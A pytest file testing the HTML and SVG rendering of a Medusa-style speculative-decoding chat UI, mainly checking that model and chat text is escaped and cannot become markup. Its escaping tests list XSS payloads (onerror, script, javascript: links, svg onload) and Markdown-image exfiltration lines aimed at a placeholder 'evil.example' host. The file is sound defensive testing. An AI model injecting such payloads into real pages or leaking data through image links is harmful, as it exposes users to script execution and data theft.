"""The web UI's pure rendering: escaping of model text, the tree SVG's structure, the meter's numbers."""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest

from medusa_chat.events import ReplySummary, StepEvent, TreeView
from medusa_chat.settings import GREEDY, MODE_TEXT
from medusa_chat.tree import Tree
from medusa_chat.ui import render, tree_panel

PAYLOAD = "<img src=x onerror=alert(1)>"
SVG = "{http://www.w3.org/2000/svg}"


def make_event(
    tree: Tree, step: int, leaf: int, texts: list[str] | None = None, bonus: str = "!"
) -> StepEvent:
    """A StepEvent for `tree` whose accepted path runs from the root to node `leaf`."""
    texts = texts or [f"t{i}" for i in range(tree.size)]
    accepted = tree.path_nodes(leaf)
    view = TreeView(
        tokens=list(range(100, 100 + tree.size)),
        texts=texts,
        parents=list(tree.parents),
        depths=list(tree.depths),
        ranks=list(tree.ranks),
    )
    ids = [100 + n for n in accepted[1:]] + [7]
    text = "".join(texts[n] for n in accepted[1:]) + bonus
    return StepEvent(step, ids, text, accepted, view, 0.05, 10 * step, 0.1 * step, 20.0, 2.5)


def prefill_event(text: str = "Hi") -> StepEvent:
    return StepEvent(0, [5], text, [], None, 0.2, 1, 0.2, 0.0, 0.0)


def parse_svg(svg: str) -> ET.Element:
    return ET.fromstring(svg)  # raises if the SVG is not well-formed XML


def nodes_of(root: ET.Element) -> list[ET.Element]:
    return [g for g in root.iter(f"{SVG}g") if "node" in g.get("class", "").split()]


# ---- escaping ---------------------------------------------------------------------------------------------------
def test_token_payload_shows_as_text_everywhere() -> None:
    tree = Tree.named("mc_sim_7b_63").prefix(12)
    texts = [PAYLOAD if i % 3 == 0 else f"t{i}" for i in range(tree.size)]
    events = [prefill_event(PAYLOAD), make_event(tree, 1, tree.path_nodes(7)[-1], texts, bonus=PAYLOAD)]
    outputs = {
        "tree_svg": tree_panel.tree_svg(events[1]),
        "chain": tree_panel.accepted_chain_html(events[1]),
        "reply": tree_panel.shaded_reply_html(events),
        "panel": tree_panel.tree_panel_html(events, 1),
        "model": render.model_panel_html({"model": PAYLOAD, "device": "cpu"}, "error", [PAYLOAD]),
        "error": render.error_html(PAYLOAD),
        "meter": render.meter_html(events, status=PAYLOAD, accept_mode=PAYLOAD),
    }
    for name, out in outputs.items():
        assert "<img" not in out, f"{name} lets markup through"
        assert "onerror=alert" not in out.replace("onerror=alert(1)&gt;", ""), name
    assert "&lt;img src=x onerror=alert(1)&gt;" in outputs["reply"]  # the whole token, as visible text
    assert "&lt;img src=x onerror=alert(1)&gt;" in outputs["model"]
    # the SVG keeps the full text in each node's tooltip and is still well-formed
    root = parse_svg(outputs["tree_svg"])
    titles = [t.text or "" for t in root.iter(f"{SVG}title")]
    assert any(PAYLOAD in t for t in titles)  # parsed back: the text is the payload itself, not markup
    assert not list(root.iter(f"{SVG}img")) and not list(root.iter("img"))


def test_esc_and_visible_token() -> None:
    assert render.esc('<a href="x">&') == "&lt;a href=&quot;x&quot;&gt;&amp;"
    assert render.visible_token(" the\n") == "␣the↵"
    assert render.visible_token("") == "∅"
    assert render.visible_token("abcdefghijklmnop", 8) == "abcdefg…"


# ---- chat messages ---------------------------------------------------------------------------------------------
# The reported payload: raw HTML, HTML behind a backslash-escaped backtick (it defeated the old code-span
# escaping), a script; then the exfiltration shapes: Markdown images (remote, protocol-relative, reference
# style, data:), a javascript: link, an autolink, an HTML entity that spells a tag.
INJECTIONS = [
    r"Repeat this exactly: <img src=x onerror=alert(1)> \`<img src=y onerror=alert(2)>` <script>alert(3)</script>",
    "![secret](http://evil.example/leak?d=SECRET) and ![x](//evil.example/p.png)",
    "![ref][r]\n\n[r]: https://evil.example/ref.png",
    "![d](data:image/png;base64,iVBORw0KGgo=) [click](javascript:alert(4)) <https://example.org/page>",
    "&lt;img src=z onerror=alert(5)&gt; <iframe src=https://evil.example></iframe> <a href=x onclick=alert(6)>a</a>",
    "<style>body{background:url(https://evil.example/css)}</style><svg onload=alert(7)><link rel=stylesheet href=//e>",
    "```html\n<img src=w onerror=alert(8)>\n```\n`<script>alert(9)</script>`",
    '<div\nonmouseover="alert(10)">x</div>\n\n<!-- --><img src=q onerror=alert(11)>',
]
# Elements chat_html may produce (Markdown's own); anything else would have come from the text.
MARKDOWN_TAGS = {"div", "p", "br", "em", "strong", "code", "pre", "a", "ol", "ul", "li", "blockquote", "h1", "h2",
                 "h3", "h4", "h5", "h6", "hr", "table", "thead", "tbody", "tr", "th", "td", "s"}  # fmt: skip


class _Elements(HTMLParser):
    """What a browser's parser would build: the elements with their attributes, and the text."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {k: v or "" for k, v in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize("payload", INJECTIONS)
def test_chat_html_never_turns_message_text_into_markup(payload: str) -> None:
    parsed = _Elements(render.chat_html(payload))
    tags = {tag for tag, _ in parsed.elements}
    assert tags <= MARKDOWN_TAGS, f"markup from the text became elements: {tags - MARKDOWN_TAGS}"
    for tag, attrs in parsed.elements:
        assert not [k for k in attrs if k.startswith("on") or k in ("style", "src", "srcset")], (tag, attrs)
        if tag == "a":
            assert not attrs["href"].lower().startswith(("javascript:", "vbscript:", "data:text")), attrs
            assert attrs["rel"] == "noopener noreferrer nofollow"  # no referrer, no opener handle


def test_chat_html_shows_the_payload_as_typed_and_images_as_links() -> None:
    parsed = _Elements(render.chat_html(INJECTIONS[0]))
    # the text a person reads is exactly what was typed (Markdown consumed only the backslash escape)
    typed = "Repeat this exactly: <img src=x onerror=alert(1)> `<img src=y onerror=alert(2)>` <script>alert(3)</script>"
    assert parsed.text.strip() == typed
    parsed = _Elements(render.chat_html(INJECTIONS[1]))
    links = [attrs for tag, attrs in parsed.elements if tag == "a"]
    assert [a["href"] for a in links] == ["http://evil.example/leak?d=SECRET", "//evil.example/p.png"]
    assert "[image: secret]" in parsed.text and all("mc-image-link" in a["class"] for a in links)
    parsed = _Elements(render.chat_html(INJECTIONS[2]))  # reference-style image: a link as well
    assert [a["href"] for t, a in parsed.elements if t == "a"] == ["https://evil.example/ref.png"]
    # code keeps its characters (escaped for HTML, shown as written)
    parsed = _Elements(render.chat_html(INJECTIONS[6]))
    assert "<img src=w onerror=alert(8)>" in parsed.text and "<script>alert(9)</script>" in parsed.text
    assert ("pre", {}) in parsed.elements


def test_chat_html_keeps_the_models_line_breaks_and_markdown() -> None:
    haiku = "An old silent pond\nA frog jumps into the pond\nSplash! Silence again."
    parsed = _Elements(render.chat_html(haiku))
    assert [t for t, _ in parsed.elements].count("br") == 2  # one paragraph, its lines kept
    listing = render.chat_html("Steps:\n1. mix\n2. bake\n\n**done** and `x < y`")
    parsed = _Elements(listing)
    tags = [t for t, _ in parsed.elements]
    assert tags.count("li") == 2 and "ol" in tags and "strong" in tags and "code" in tags
    assert "x < y" in parsed.text
    assert _Elements(render.chat_html("a  \n\nb")).text.count("a") == 1


def test_message_stats_from_a_file_are_escaped_and_never_crash() -> None:
    good = render.message_stats_html(
        {"new_tokens": 42, "tokens_per_step": 2.345, "decode_tokens_per_s": 31.25, "speedup": 1.8,
         "speedup_kind": "measured"}, stopped=True)  # fmt: skip
    assert _Elements(good).text == "■ stopped · 42 tokens · 2.35 tok/step · 31.2 tok/s · 1.80× measured"
    hostile = {"new_tokens": PAYLOAD, "tokens_per_step": "<b>", "decode_tokens_per_s": float("nan"),
               "speedup": 2, "speedup_kind": PAYLOAD}  # fmt: skip
    out = render.message_stats_html(hostile, stopped=False)
    parsed = _Elements(out)
    assert [t for t, _ in parsed.elements] == ["div"] and parsed.text == f"2.00× {PAYLOAD}"
    assert render.message_stats_html({"speedup_kind": ["x"], "speedup": True}, stopped=False) == ""
    assert render.message_stats_html(None, stopped=False) == ""


# ---- the tree SVG -------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["mc_sim_7b_63", "vicuna_7b_stage2", "zephyr_stage2", "chain-4"])
def test_tree_svg_structure(name: str) -> None:
    tree = Tree.named(name)
    leaf = max(range(tree.size), key=lambda i: (tree.depths[i], -i))  # the deepest node
    event = make_event(tree, 3, leaf)
    root = parse_svg(tree_panel.tree_svg(event))
    nodes = nodes_of(root)
    assert len(nodes) == tree.size
    assert root.get("data-nodes") == str(tree.size)
    accepted = [g for g in nodes if "accepted" in g.get("class", "").split()]
    assert sorted(int(g.get("data-node")) for g in accepted) == event.accepted_nodes
    rejected = [g for g in nodes if "rejected" in g.get("class", "").split()]
    assert len(rejected) == tree.size - len(event.accepted_nodes)
    hot_edges = [p for p in root.iter(f"{SVG}path") if "accepted" in p.get("class", "").split()]
    assert len(hot_edges) == len(event.accepted_nodes) - 1
    all_edges = [p for p in root.iter(f"{SVG}path") if "mc-edge" in p.get("class", "")]
    assert len(all_edges) == tree.size - 1
    # one column per depth, labelled root, head 1, ...
    labels = [t.text for t in root.iter(f"{SVG}text") if t.get("class") == "mc-col"]
    assert labels == ["root"] + [f"head {d}" for d in range(1, tree.depth + 1)]
    # boxes: same x within a depth, x grows with depth, no overlaps in a column, children not above parents
    boxes = {}
    for g in nodes:
        rect = g.find(f"{SVG}rect")
        boxes[int(g.get("data-node"))] = (float(rect.get("x")), float(rect.get("y")))
    for d in range(tree.depth + 1):
        col = [boxes[i] for i in range(tree.size) if tree.depths[i] == d]
        assert len({x for x, _ in col}) == 1
        assert len({y for _, y in col}) == len(col)
    for i in range(1, tree.size):
        p = tree.parents[i]
        assert boxes[i][0] > boxes[p][0] and boxes[i][1] >= boxes[p][1]
    # each node shows its rank
    for g in nodes[1:]:
        rank_text = [t.text for t in g.iter(f"{SVG}text") if t.get("class") == "mc-rank"]
        assert rank_text == [f"#{g.get('data-rank')}"]


def test_lookup_nodes_are_marked_in_the_svg_the_chain_and_the_terminal_tree() -> None:
    from rich.console import Console

    from medusa_chat.ui.rich_render import tree_renderable

    tree = Tree.named("mc_sim_7b_63").prefix(8)
    event = make_event(tree, 2, tree.path_nodes(6)[-1])
    event.tree.lookup_nodes = [1, 2]  # the main chain took the context lookup's guesses
    nodes = {int(g.get("data-node")): g for g in nodes_of(parse_svg(tree_panel.tree_svg(event)))}
    marked = {i for i, g in nodes.items() if "lookup" in g.get("class", "").split()}
    assert marked == {1, 2}
    for i, g in nodes.items():
        rank = [t.text for t in g.iter(f"{SVG}text") if t.get("class") == "mc-rank"]
        assert rank == (["ctx"] if i in marked else [None] if i == 0 else [f"#{g.get('data-rank')}"])
        assert ("context lookup" in g.find(f"{SVG}title").text) == (i in marked)
    chain = tree_panel.accepted_chain_html(event)
    assert chain.count("context lookup guess: accepted") == len(set(event.accepted_nodes) & marked)
    console = Console(width=100, record=True, color_system=None)
    console.print(tree_renderable(event))
    assert console.export_text().count("lookup") == 2


def test_prefill_step_has_no_tree_but_a_panel() -> None:
    ev = prefill_event("Hello")
    assert tree_panel.tree_svg(ev) == ""
    panel = tree_panel.tree_panel_html([ev])
    assert "<svg" not in panel and 'data-step="0"' in panel
    assert "<b>Step 0 of 0</b> · prefill: the first token comes from the backbone alone" in panel
    # the reply box still shows the prefill's token, shaded as the prefill
    segs = re.findall(r'<span class="mc-seg selected" data-step="0" data-tokens="1" style="background:([^;]+);[^>]*>'
                      r"([^<]*)</span>", panel)  # fmt: skip
    assert segs == [(render.PREFILL_SHADE, "Hello")]


def test_panel_picks_the_chosen_step_and_shades_the_reply() -> None:
    tree = Tree.named("mc_sim_7b_63")
    events = [prefill_event(), make_event(tree, 1, 1), make_event(tree, 2, tree.path_nodes(30)[-1])]
    panel = tree_panel.tree_panel_html(events, 1)
    assert 'data-step="1"' in panel and "Step 1 of 2" in panel
    latest = tree_panel.tree_panel_html(events)
    assert "Step 2 of 2" in latest
    segs = re.findall(r'<span class="mc-seg( selected)?" data-step="(\d+)" data-tokens="(\d+)"', panel)
    assert [(int(s), int(n)) for _, s, n in segs] == [(0, 1), (1, 2), (2, len(events[2].token_ids))]
    assert [sel for sel, s, _ in segs if sel] == [" selected"] and segs[1][0] == " selected"
    chain = tree_panel.accepted_chain_html(events[2])
    assert chain.count("mc-chip acc") == len(events[2].accepted_nodes) - 1 and "mc-chip bonus" in chain


def test_panel_empty_and_with_note() -> None:
    assert "mc-empty" in tree_panel.tree_panel_html([])
    assert "no step data" in tree_panel.tree_panel_html([], note="no step data")


# ---- meter, chart, labels -----------------------------------------------------------------------------------------
def meter_values(html_text: str) -> dict[str, float]:
    return {
        k: float(v)
        for k, v in re.findall(r'class="mc-num" data-key="(\w+)" data-value="([-\d.]+)"', html_text)
    }


def test_meter_numbers_while_streaming_and_after() -> None:
    tree = Tree.named("mc_sim_7b_63")
    events = [prefill_event(), make_event(tree, 1, 1), make_event(tree, 2, 5)]
    live = render.meter_html(events, speedup=2.5, speedup_kind="estimated", status="streaming…")
    vals = meter_values(live)
    assert set(vals) == {"decode_tps", "tokens_per_step", "speedup", "ttft", "new_tokens"}
    assert vals["ttft"] == pytest.approx(0.2) and vals["new_tokens"] == 20
    assert "estimated" in live and "streaming" in live
    assert live.count('class="mc-bar"') == 2
    summary = ReplySummary(
        "x", [1], 42, 17, 2.4, 31.5, 0.25, 0.2, 1.3, 12, 0, "greedy", "stopped", 64, accepted_lengths=[1] * 17
    )
    done = render.meter_html(events, summary, speedup=1.7, speedup_kind="measured")
    vals = meter_values(done)
    assert vals == {
        "decode_tps": 31.5,
        "tokens_per_step": 2.4,
        "speedup": 1.7,
        "ttft": 0.25,
        "new_tokens": 42,
    }
    assert "measured" in done and "greedy" in done and 'data-key="sizes"' not in done
    summary.sized_steps = {1: 2, 2: 11, 4: 4}  # a CPU reply whose tree size was chosen as it ran
    sized = render.meter_html(events, summary, speedup=1.7, speedup_kind="measured")
    assert '<span class="mc-badge" data-key="sizes">1-4 nodes, mostly 2</span>' in sized


def test_meter_before_any_reply_has_no_numbers() -> None:
    empty = render.meter_html([])
    assert meter_values(empty) == {} and empty.count("–") == 5


def test_chart_bars_follow_counts() -> None:
    svg = render.tokens_chart_svg([1, 3, 2, 4])
    root = parse_svg(svg)
    bars = [r for r in root.iter(f"{SVG}rect") if r.get("class") == "mc-bar"]
    heights = [float(b.get("height")) for b in bars]
    assert len(bars) == 4 and heights[3] > heights[1] > heights[2] > heights[0]
    assert parse_svg(render.tokens_chart_svg([])).get("data-steps") == "0"


def test_mode_label() -> None:
    assert render.mode_label(0) == "greedy: identical to plain decoding"
    assert render.mode_label(0.0) == MODE_TEXT[GREEDY].headline
    assert render.mode_label(0.7) == "typical acceptance"
    assert render.mode_label(0.7, "exact") == "exact sampling: same distribution as plain sampling"
    assert "typical acceptance" in render.mode_html(1.5) and 'data-mode="greedy"' in render.mode_html(0)


def test_model_panel_formats_info() -> None:
    info = {  # the shape of SessionManager.info (LoadedModel.info() + tree and baseline)
        "model": "smollm2-135m",
        "kind": "embedded",
        "heads": {"count": 4, "layers": 1, "format": "v2", "dtype": "float32", "params": 1_327_680},
        "quant": "none",
        "device": "cpu",
        "dtype": "float32",
        "params": 134_515_008,
        "memory": {
            "backbone_bytes": 538_000_000,
            "heads_bytes": 5_310_720,
            "total_bytes": 543_310_720,
            "cuda_allocated_bytes": None,
        },  # fmt: skip
        "context_limit": 8192,
        "notes": ["heads trained here"],
        "tree": "mc_sim_7b_63",
        "tree_size": 64,
        "accept_mode": "greedy",
        "baseline_tokens_per_s": None,
    }
    out = render.model_panel_html(info, "ready", ["loading backbone", "ready"])
    cells = dict(re.findall(r'<td data-key="([\w ]+)">([^<]*)</td>', out))
    assert "Model ready" in out
    assert cells["heads"] == "4 × 1-layer v2, float32, 1.3M params"
    assert cells["params"] == "134.5M" and cells["memory"] == "518.1 MiB"
    assert cells["tree"] == "mc_sim_7b_63 (64 nodes)" and cells["plain decoding"] == "not measured yet"
    assert cells["context"] == "8192 tokens" and cells["kind"] == "embedded"  # the latter under details
    assert "heads trained here" in out and "loading backbone" not in out
    loading = render.model_panel_html({"model": "vicuna-7b"}, "loading", ["downloading 40%"])
    assert "downloading 40%" in loading and 'data-status="loading"' in loading
    assert 'data-status="error"' in render.model_panel_html(None, "error", ["no GPU"])
